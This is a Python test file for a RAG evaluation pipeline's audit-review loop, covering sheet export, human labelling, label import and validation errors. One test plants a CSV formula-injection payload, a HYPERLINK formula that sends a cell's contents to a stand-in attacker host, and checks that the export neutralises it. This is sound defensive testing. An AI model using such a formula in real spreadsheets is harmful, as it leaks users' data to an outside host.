"""Labels from the review loop: an audit exported as a sheet, filled in by a person, imported as the tenant's labels.

The sheet's pure parts (the ranks of the relevant contexts, the evidence text) are tested alone; the loop runs
on a real audit: acme/v1 as the session synthesized it (tenant_fixtures), gated once per module in this
process, each test on its own copy of that warehouse.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from rag_eval_pipeline.core.metrics.formulas import average_precision
from rag_eval_pipeline.evaluation.audit_review import evidence_text, is_audit_sheet, relevant_ranks
from rag_eval_pipeline.evaluation.labels import label_key, read_labels
from rag_eval_pipeline.stores.local import Warehouse
from rag_eval_pipeline.synthesis.review import SHEET_COLUMNS, read_sheet
from rag_eval_pipeline_tests.support.cli import rag_eval, rag_eval_process

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HUMAN = ["faithful", "correct", "relevant", "relevant_contexts", "labeler_note"]


# ---- the pure parts ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "n", "relevance"),
    [("1,3", 4, [1, 0, 1, 0]), ("3; 1", 3, [1, 0, 1]), ("[2]", 2, [0, 1]), ("none", 2, [0, 0]), ("NONE", 1, [0])],
)
def test_relevant_contexts_become_the_relevance_of_each_rank(text, n, relevance):
    assert relevant_ranks(text, n) == (relevance, "")


@pytest.mark.parametrize(("text", "n"), [("0", 3), ("4", 3), ("1,x", 3), ("1.5", 3), ("all", 3), ("1", 0)])
def test_a_context_number_outside_the_item_is_a_problem(text, n):
    relevance, problem = relevant_ranks(text, n)
    assert relevance == [] and problem


def test_the_precision_label_is_the_average_precision_of_the_marked_ranks():
    relevance, _ = relevant_ranks("1,3", 4)
    assert average_precision(relevance) == pytest.approx((1 / 1 + 2 / 3) / 2)


def test_the_evidence_text_names_what_the_judge_rejected():
    statements = [{"statement": "Logs are kept 90 days.", "verdict": 1}, {"statement": "Logs are free.", "verdict": 0}]
    faithfulness = {"metric": "faithfulness", "status": "ok", "evidence": json.dumps({"statements": statements})}
    precision = {"metric": "context_precision", "status": "ok", "evidence": json.dumps({"relevance": [0, 1, 1]})}
    unmeasured = {"metric": "answer_correctness", "status": "unmeasured", "reason": "empty answer", "evidence": "{}"}

    assert evidence_text(faithfulness) == "unsupported: Logs are free."
    assert evidence_text(precision) == "judged relevant: 2,3"
    assert evidence_text(unmeasured) == "unmeasured: empty answer"


def test_a_golden_set_review_sheet_is_not_an_audit_sheet():
    assert not is_audit_sheet(SHEET_COLUMNS)
    assert is_audit_sheet(["qa_id", "run_id", "faithful"])


# ---- a real audit ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def audited(tmp_path_factory, synthesized_acme_warehouse):
    """acme/v1 gated once on main by the reference candidate (offline judge): (environment, the audit's run id).
    Read-only: tests get copies (`labelling`)."""
    from rag_eval_pipeline.partitions import register_partition
    from rag_eval_pipeline_tests.tenant_fixtures import lay_out_acme
    from rag_eval_pipeline_tests.test_dagster.conftest import REPO_ROOT, cli_instance

    root = tmp_path_factory.mktemp("audited")
    lay_out_acme(root / "documents")
    shutil.copytree(synthesized_acme_warehouse, root / "warehouse")
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("RAG_EVAL_")},
        "DAGSTER_HOME": str(root / "home"),
        "RAG_EVAL_DOCUMENTS_ROOT": str(root / "documents"),
        "RAG_EVAL_WAREHOUSE": str(root / "warehouse"),
        "PYTHONPATH": str(REPO_ROOT),
    }
    with cli_instance(env) as instance:
        register_partition(instance, "acme", "v1")
    gate = rag_eval(env, "gate", "--tenant", "acme", "--candidate", "base", "--branch", "main")
    assert gate.returncode == 0, gate.stdout + gate.stderr
    (run_id,) = re.findall(r"^run (\S+) \(audit\) finished", gate.stdout, re.MULTILINE)
    return env, run_id


@pytest.fixture
def labelling(audited, tmp_path):
    """This test's copy of the audited warehouse: (environment, run id, its warehouse)."""
    env, run_id = audited
    shutil.copytree(env["RAG_EVAL_WAREHOUSE"], tmp_path / "warehouse")
    mine = {**env, "RAG_EVAL_WAREHOUSE": str(tmp_path / "warehouse"), "DAGSTER_HOME": str(tmp_path / "home")}
    return mine, run_id, Warehouse(tmp_path / "warehouse")


def _outputs(warehouse: Warehouse, run_id: str) -> pd.DataFrame:
    outputs = warehouse.read_audit_table("acme", "v1", run_id, "candidate_outputs")
    assert outputs is not None
    return outputs[outputs["status"] == "ok"].set_index("qa_id")


def _export(env, run_id: str, path: Path):
    return rag_eval(
        env, "review", "export", "--tenant", "acme", "--version", "v1", "--audit", run_id, "--out", str(path)
    )


def _import(env, path: Path, *more: str):
    return rag_eval(env, "review", "import", "--tenant", "acme", "--file", str(path), *more)


def _rows(path: Path) -> list[dict]:
    """The sheet as a person's program reads it: every cell as the file holds it."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _save(rows: list[dict], path: Path) -> None:
    """The filled-in sheet saved back, as a spreadsheet (CSV, every cell quoted) or an editor (JSONL) does."""
    if path.suffix == ".csv":
        pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    else:
        path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


def _one_error_line(result) -> str:
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 2 and len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    return lines[0]


def _no_labels(warehouse: Warehouse) -> bool:
    return read_labels(warehouse, "acme").empty


@pytest.mark.dagster
@pytest.mark.cli
@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_a_filled_in_audit_sheet_becomes_the_tenants_labels_of_what_was_judged(labelling, tmp_path, suffix):
    env, run_id, warehouse = labelling
    outputs = _outputs(warehouse, run_id)
    golden = warehouse.read("acme", "v1", "golden_set").set_index("qa_id")
    path = tmp_path / f"audit{suffix}"

    exported = _export(env, run_id, path)

    assert exported.returncode == 0, exported.stderr
    assert f"{len(outputs)} items of audit {run_id} (acme/v1, commit base) written to {path}" in exported.stdout
    rows = _rows(path)
    assert [r["qa_id"] for r in rows] == outputs.index.tolist()
    assert {r["run_id"] for r in rows} == {run_id} and {r["commit"] for r in rows} == {"base"}
    assert all(r[c] == "" for r in rows for c in HUMAN)
    assert {"faithfulness_score", "faithfulness_evidence", "context_precision_score"} <= set(rows[0])
    first, second, third = rows[0], rows[1], rows[2]
    n_contexts = len(outputs.loc[first["qa_id"], "contexts"])
    assert n_contexts >= 2 and first["contexts"].startswith("[1] ") and f"\n\n[{n_contexts}] " in first["contexts"]

    first.update(faithful="1", correct="no", relevant="YES", relevant_contexts=f"{n_contexts}", labeler_note="ok")
    first["answer"] = "An answer the labeller rewrote in the sheet."  # never what is stored
    second.update(faithful="0", relevant_contexts="none")
    third.update(labeler_note="read it, no verdict")  # no label: skipped
    _save(rows, path)
    imported = _import(env, path)

    assert imported.returncode == 0, imported.stderr
    assert (
        f"2 items of acme labelled from {path} (faithfulness 2, answer_correctness 1, answer_relevance 1, "
        f"context_precision 2); {len(rows) - 2} rows without a label skipped"
    ) in imported.stdout
    assert "next: rag-eval calibrate --tenant acme" in imported.stdout
    labels = read_labels(warehouse, "acme")
    got = {(r.qa_id, r.metric): r.label for r in labels.itertuples()}
    assert got == {
        (first["qa_id"], "faithfulness"): 1.0,
        (first["qa_id"], "answer_correctness"): 0.0,
        (first["qa_id"], "answer_relevance"): 1.0,
        (first["qa_id"], "context_precision"): pytest.approx(1 / n_contexts),
        (second["qa_id"], "faithfulness"): 0.0,
        (second["qa_id"], "context_precision"): 0.0,
    }
    for row in labels.to_dict("records"):  # the texts the judge read, not the sheet's
        output = outputs.loc[row["qa_id"]]
        assert (row["question"], row["answer"]) == (output["question"], output["answer"])
        assert row["ground_truth"] == golden.loc[row["qa_id"], "ground_truth"]
        assert json.loads(row["contexts"]) == [{"id": c["id"], "text": c["text"]} for c in output["contexts"]]
        assert (row["commit"], row["source"]) == ("base", f"review of {run_id}")


@pytest.mark.dagster
@pytest.mark.cli
def test_a_formula_in_the_audited_texts_is_text_in_the_csv_and_the_label_keeps_it(labelling, tmp_path):
    env, run_id, warehouse = labelling
    stored = warehouse.read_audit_table("acme", "v1", run_id, "candidate_outputs")
    assert stored is not None
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    qa_id = str(stored.loc[stored["status"] == "ok", "qa_id"].iloc[0])
    stored.loc[stored["qa_id"] == qa_id, "answer"] = hostile
    warehouse.write_audit_table("acme", "v1", "base", run_id, "candidate_outputs", stored)
    path = tmp_path / "audit.csv"

    assert _export(env, run_id, path).returncode == 0
    rows = _rows(path)

    assert not [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]
    (row,) = [r for r in rows if r["qa_id"] == qa_id]
    assert row["answer"] == "'" + hostile  # a spreadsheet shows it as text
    assert read_sheet(path).set_index("qa_id").loc[qa_id, "answer"] == hostile  # read back as it was
    row.update(faithful="0")
    _save(rows, path)
    assert _import(env, path).returncode == 0
    (answer,) = read_labels(warehouse, "acme")["answer"].unique()
    assert answer == hostile


def _filled(env, run_id: str, path: Path) -> list[dict]:
    """An exported sheet with a good label on its first row (which a bad row elsewhere must not let through)."""
    assert _export(env, run_id, path).returncode == 0
    rows = _rows(path)
    rows[0].update(faithful="1")
    return rows


BAD_CELLS = [
    ("faithful", "maybe", "row 2, column faithful: 'maybe'; use 1, 0, yes, no"),
    ("correct", "2", "row 2, column correct: '2'"),
    ("relevant_contexts", "0", "row 2, column relevant_contexts: '0'; use the numbers of the relevant contexts (1 to"),
    ("relevant_contexts", "1 and 2", "row 2, column relevant_contexts: '1 and 2'"),
    ("relevant_contexts", "99", "row 2, column relevant_contexts: '99'"),
    ("qa_id", "not-an-item", "row 2, column qa_id: 'not-an-item' is not an item the candidate answered in audit"),
    ("run_id", "no-such-run", "row 2, column run_id: acme/v1 has no audit 'no-such-run'"),
    ("version", "v9", "row 2, column run_id: acme/v9 has no audit"),
    ("commit", "other", "row 2, column commit: 'other', but audit"),
]


@pytest.mark.dagster
@pytest.mark.cli
@pytest.mark.parametrize(("column", "value", "message"), BAD_CELLS)
def test_a_bad_cell_is_one_line_naming_its_row_and_column_and_nothing_is_stored(
    labelling, tmp_path, column, value, message
):
    env, run_id, warehouse = labelling
    path = tmp_path / "audit.csv"
    rows = _filled(env, run_id, path)
    rows[1].update({column: value, "relevant": "1"})
    _save(rows, path)

    line = _one_error_line(_import(env, path))

    assert "the audit sheet has 1 problem, nothing was stored: " + message in line
    assert _no_labels(warehouse)


@pytest.mark.dagster
@pytest.mark.cli
def test_malformed_sheets_are_refused_in_one_line(labelling, tmp_path):
    env, run_id, warehouse = labelling
    path = tmp_path / "audit.csv"
    rows = _filled(env, run_id, path)
    rows[1].update(faithful="1")
    rows.append({**rows[1]})  # the same item twice
    _save(rows, path)
    line = _one_error_line(_import(env, path))
    assert f"row {len(rows)}, column qa_id:" in line and "appears again (first on row 2)" in line

    _save([{k: v for k, v in row.items() if k != "correct"} for row in rows], path)
    assert "the audit sheet lacks the columns correct" in _one_error_line(_import(env, path))

    path.write_bytes(b"qa_id,run_id,faithful\n\xff\xfe\x00garbage\n")
    assert f"cannot read --file {path} as a review sheet" in _one_error_line(_import(env, path))

    _save(rows[:1], path)
    assert "leave out --version and --new-version" in _one_error_line(_import(env, path, "--version", "v1"))

    empty = tmp_path / "empty.jsonl"  # read as a golden-set review of every item as unreviewed, it published a version
    empty.write_text("", encoding="utf-8")
    line = _one_error_line(_import(env, empty, "--version", "v1", "--new-version", "v9"))
    assert f"--file {empty} holds no rows" in line
    assert not (warehouse.root / "acme" / "v9").exists()
    assert _no_labels(warehouse)


@pytest.mark.dagster
@pytest.mark.cli
def test_an_unknown_audit_exports_nothing_and_a_golden_sheet_still_needs_its_versions(labelling, tmp_path):
    env, _, _ = labelling
    path = tmp_path / "audit.csv"
    assert "acme/v1 has no audit of run id 'no-such-run'" in _one_error_line(_export(env, "no-such-run", path))
    assert not path.exists()

    golden = tmp_path / "golden.csv"
    assert (
        rag_eval(env, "review", "export", "--tenant", "acme", "--version", "v1", "--out", str(golden)).returncode == 0
    )
    line = _one_error_line(_import(env, golden))
    assert "is a golden-set review sheet: its import needs --version" in line


@pytest.mark.dagster
@pytest.mark.cli
def test_an_unknown_run_id_in_a_process_is_one_line_on_stderr(labelling, tmp_path):
    env, run_id, warehouse = labelling
    path = tmp_path / "audit.jsonl"
    rows = _filled(env, run_id, path)
    rows[0]["run_id"] = "not-this-tenants-run"
    _save(rows, path)

    done = rag_eval_process(env, "review", "import", "--tenant", "acme", "--file", str(path))

    assert _one_error_line(done) == (
        "error: the audit sheet has 1 problem, nothing was stored: row 1, column run_id: acme/v1 has no audit "
        "'not-this-tenants-run'"
    )
    assert _no_labels(warehouse)


@pytest.mark.dagster
@pytest.mark.cli
def test_a_reviewer_labels_an_audit_through_the_gate_service(labelling, tmp_path):
    """The tenant is the token's: the sheet comes from, and the labels go to, the operator's store."""
    from rag_eval_pipeline_tests.support.gate_service import gate_service, token_for, write_key

    env, run_id, warehouse = labelling
    operator = {**env, "RAG_EVAL_TOKEN_KEY_FILE": str(write_key(tmp_path / "token.key"))}
    ci = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("RAG_EVAL_", "DAGSTER_"))},
        "RAG_EVAL_TOKEN": token_for(tmp_path / "token.key", "acme", ("review",)),
        "RAG_EVAL_WAREHOUSE": str(tmp_path / "ci-warehouse"),  # empty: whatever the job gets, the service sent
        "DAGSTER_HOME": str(tmp_path / "ci-home"),
    }
    path = tmp_path / "audit.csv"
    with gate_service(operator, tmp_path / "service.log") as url:
        ci["RAG_EVAL_SERVER"] = url
        exported = _export(ci, run_id, path)
        assert exported.returncode == 0, exported.stderr
        assert f"items of audit {run_id} (acme/v1, commit base) written to {path}" in exported.stdout
        rows = _rows(path)
        rows[0].update(correct="yes")
        _save(rows, path)
        imported = _import(ci, path)

    assert imported.returncode == 0, imported.stderr
    assert "1 items of acme labelled" in imported.stdout and "next: rag-eval calibrate --tenant acme" in imported.stdout
    (label,) = read_labels(warehouse, "acme").itertuples()
    assert (label.qa_id, label.metric, label.label) == (rows[0]["qa_id"], "answer_correctness", 1.0)
    assert label.label_key == label_key(_item_of(warehouse, run_id, rows[0]["qa_id"]))


def _item_of(warehouse: Warehouse, run_id: str, qa_id: str):
    from rag_eval_pipeline.evaluation.audit_review import audited_items

    items = audited_items(warehouse, "acme", "v1", run_id)
    assert items is not None
    return items[qa_id].item
